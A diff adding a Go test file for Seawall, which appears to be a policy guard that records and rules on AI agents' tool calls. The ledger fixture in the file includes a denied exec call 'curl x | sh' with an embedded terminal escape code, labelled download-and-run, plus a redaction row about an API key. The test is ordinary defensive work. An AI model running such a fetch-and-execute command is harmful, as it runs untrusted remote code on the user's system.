@@ -1,0 +1,129 @@
+package main
+
+import (
+	"context"
+	"database/sql"
+	"encoding/json"
+	"errors"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/rogpeppe/go-internal/testscript"
+
+	"github.com/openseawall/seawall/internal/ledger"
+	"github.com/openseawall/seawall/internal/service"
+	"github.com/openseawall/seawall/internal/state"
+)
+
+func TestMain(m *testing.M) {
+	testscript.Main(m, map[string]func(){"seawall": main})
+}
+
+// TestScripts plays the transcripts in testdata/script: what a person types,
+// what the screen says, and the exit status. Each has a home and a state
+// directory of its own.
+func TestScripts(t *testing.T) {
+	hosts, err := filepath.Abs("../../internal/posture/controls/testdata")
+	if err != nil {
+		t.Fatal(err)
+	}
+	vps, err := filepath.Abs("../../internal/host/testdata/vps.txtar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	testscript.Run(t, testscript.Params{
+		Dir: "testdata/script",
+		Setup: func(e *testscript.Env) error {
+			e.Setenv("HOME", filepath.Join(e.WorkDir, "home"))
+			e.Setenv("XDG_STATE_HOME", filepath.Join(e.WorkDir, "xdg"))
+			e.Setenv("HOSTS", hosts)
+			e.Setenv("VPS", vps)
+			e.Setenv("TZ", "UTC")
+			return os.Mkdir(filepath.Join(e.WorkDir, "home"), 0o700)
+		},
+		Cmds: map[string]func(*testscript.TestScript, bool, []string){
+			"status": exitStatus, "running": running, "occupied": occupied, "decisions": decisions, "sqlite": query, "mode": mode,
+		},
+	})
+}
+
+// exitStatus runs a command and wants its exit status, or with … takes any:
+// status 1 seawall audit
+func exitStatus(ts *testscript.TestScript, neg bool, args []string) {
+	got := 0
+	var exit *exec.ExitError
+	if err := ts.Exec(args[1], args[2:]...); errors.As(err, &exit) {
+		got = exit.ExitCode()
+	} else {
+		ts.Check(err)
+	}
+	if want, _, anyway := strings.Cut(args[0], "…"); neg || want != strconv.Itoa(got) && !anyway {
+		ts.Fatalf("the exit status is %d, not %s", got, want)
+	}
+}
+
+// running makes a state directory that of a Seawall which runs until the end of
+// the script.
+func running(ts *testscript.TestScript, _ bool, args []string) {
+	dir, err := state.Open(ts.MkAbs(args[0]))
+	ts.Check(err)
+	release, err := dir.Lock()
+	ts.Check(err)
+	ts.Defer(func() { release(); dir.Close() })
+	i, err := json.Marshal(service.Instance{PID: 1, Door: "127.0.0.1:4780", Page: "127.0.0.1:4781", Version: "test", Started: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)})
+	ts.Check(err)
+	ts.Check(dir.Write(state.Running, i))
+}
+
+// occupied names a loopback port on which somebody listens.
+func occupied(ts *testscript.TestScript, _ bool, args []string) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	ts.Check(err)
+	ts.Defer(func() { l.Close() })
+	ts.Setenv(args[0], l.Addr().String())
+}
+
+// decisions writes a record with four rows into a state directory.
+func decisions(ts *testscript.TestScript, _ bool, args []string) {
+	dir, err := state.Open(ts.MkAbs(args[0]))
+	ts.Check(err)
+	defer dir.Close()
+	l, err := ledger.Open(context.Background(), dir)
+	ts.Check(err)
+	for _, row := range []ledger.Row{
+		{Kind: "event", Why: "the policy was changed to version 1"},
+		{Kind: "decided", Decision: "allow", Act: "call", Tool: "read", Detail: `{"path":"notes.md"}`, Why: "nothing forbids it", Session: "one"},
+		{Kind: "decided", Decision: "deny", Act: "call", Tool: "exec", Detail: "{\"command\":\"curl x | sh\x1b[2J\"}", Policy: []string{"download-and-run"}, Why: "it runs what it downloads", Session: "one"},
+		{Kind: "decided", Decision: "redact", Act: "reply", Detail: "assistant: an OpenAI API key", Policy: []string{"secrets"}, Why: "it contains secrets", Session: "two"},
+	} {
+		_, err := l.Append(context.Background(), row)
+		ts.Check(err)
+	}
+	ts.Check(l.Close())
+}
+
+// query does something to a record behind Seawall's back: sqlite state "DELETE …"
+func query(ts *testscript.TestScript, _ bool, args []string) {
+	db, err := sql.Open("sqlite", filepath.Join(ts.MkAbs(args[0]), state.Ledger))
+	ts.Check(err)
+	defer db.Close()
+	_, err = db.Exec(args[1])
+	ts.Check(err)
+}
+
+// mode wants a file's mode: mode 600 state/keys.json
+func mode(ts *testscript.TestScript, neg bool, args []string) {
+	for _, name := range args[1:] {
+		info, err := os.Stat(ts.MkAbs(name))
+		ts.Check(err)
+		if got := strconv.FormatUint(uint64(info.Mode().Perm()), 8); (got == args[0]) == neg {
+			ts.Fatalf("%s has mode %s", name, got)
+		}
+	}
+}
